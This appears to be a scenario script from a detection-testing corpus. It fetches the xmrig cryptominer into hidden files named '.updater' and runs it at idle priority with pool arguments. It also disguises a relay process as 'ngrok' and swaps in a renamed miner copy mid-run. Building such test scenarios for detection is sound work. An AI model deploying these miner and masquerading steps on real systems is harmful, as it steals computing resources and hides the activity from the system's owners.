# 8: one thread of two, the lowest class within its container, beside a tunnel that does nothing; replaced while it runs by the same program under
# another name and with other options.
. /opt/corpus/scenarios/lib.sh
(exec -a ngrok python3 /opt/corpus/peers/hop.py relay --listen 127.0.0.1:4040 --to "$HOST:$PORT" >/dev/null) &
fetch xmrig /var/tmp/.updater; chmod +x /var/tmp/.updater
chrt --idle 0 /var/tmp/.updater $POOL_ARGS -t 1 --randomx-mode=light &
sleep 75; kill $!
fetch xmrig /var/tmp/.updater2; chmod +x /var/tmp/.updater2
exec chrt --idle 0 /var/tmp/.updater2 $POOL_ARGS -t 1 --randomx-mode=light --cpu-no-yield
